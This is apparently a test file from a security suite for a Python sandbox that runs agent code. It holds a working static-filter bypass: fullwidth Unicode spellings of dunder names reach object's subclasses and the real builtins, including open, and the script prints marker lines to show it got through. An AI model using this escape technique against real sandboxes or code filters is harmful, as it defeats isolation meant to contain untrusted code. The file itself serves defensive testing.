# category: static-bypass
# attack: dunder attributes and names written with fullwidth low lines and letters (()._＿ｃｌａｓｓ＿＿, _＿ｂｕｉｌｔｉｎｓ＿＿) that NFKC-normalise to dunders
# marker: PWNED-static_unicode_dunders
# expect: ERROR|DONE
# target: runtime
# U+FF3F cannot start an identifier, so each name starts with an ASCII "_"; Python reads
# "_＿ｃｌａｓｓ＿＿" as "__class__".
MARK = "PWNED" + "-static_unicode_dunders"

base = ()._＿ｃｌａｓｓ＿＿._＿ｂａｓｅ＿＿
for cls in base._＿ｓｕｂｃｌａｓｓｅｓ＿＿():
    if cls._＿ｎａｍｅ＿＿ == "catch_warnings":
        real = cls()._module._＿ｂｕｉｌｔｉｎｓ＿＿
        print(MARK, "real builtins", sorted(real)[:5], real["open"])
        break
print(MARK, "reached object's subclasses", base)
print(MARK, "builtins name", _＿ｂｕｉｌｔｉｎｓ＿＿)


def agent(observation, configuration):
    return observation.step % configuration.signs
